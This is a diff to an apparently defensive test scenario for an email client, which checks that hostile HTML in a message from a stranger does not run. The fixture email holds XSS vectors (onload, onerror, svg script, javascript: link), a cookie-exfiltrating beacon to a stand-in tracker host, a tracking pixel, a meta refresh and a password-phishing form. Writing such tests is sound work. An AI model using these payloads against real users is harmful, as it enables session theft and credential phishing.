@@ -81,7 +81,7 @@ export const script: Scripted[] = [
     title: { en: 'Hostile HTML from a stranger: nothing of it runs', de: 'Feindliches HTML von einem Fremden: nichts davon läuft' },
     write: async ({ messageId }) => ({
       ...plain(offers, provider.desk, messageId, 'You have won! Confirm now', 'You have won. Confirm your account to claim the prize.'),
-      html: `<html><head><style>body{background:url(http://tracker.lucky-draw.example/bg.png)} .x{position:fixed;top:0;left:0;width:100%;height:100%}</style><script>document.title='owned';fetch('http://tracker.lucky-draw.example/?c='+document.cookie)</script><meta http-equiv="refresh" content="0;url=http://lucky-draw.example/"></head>
+      html: `<html><head><style>body{background:url(http://tracker.lucky-draw.example/bg.png)} .x{position:fixed;top:0;left:0;width:100%;height:100%}</style><script>document.title='owned';new Image().src='http://tracker.lucky-draw.example/?c='+document.cookie</script><meta http-equiv="refresh" content="0;url=http://lucky-draw.example/"></head>
 <body onload="alert(1)"><div class="x"><a href="http://lucky-draw.example/claim">&nbsp;</a></div><h1 onclick="alert(2)">You have won!</h1><p>Dear customer, your address was drawn.</p>
 <img src="x" onerror="alert(3)"><img src="http://tracker.lucky-draw.example/pixel.gif" width="1" height="1"><svg onload="alert(4)"><script>alert(5)</script></svg>
 <form action="http://lucky-draw.example/steal"><input name="password" type="password" placeholder="Your password"><button>Claim</button></form><p><a href="javascript:alert(6)">Click here</a> or <a href="http://lucky-draw.example/claim">here</a>.</p><iframe src="http://lucky-draw.example/"></iframe></body></html>`,
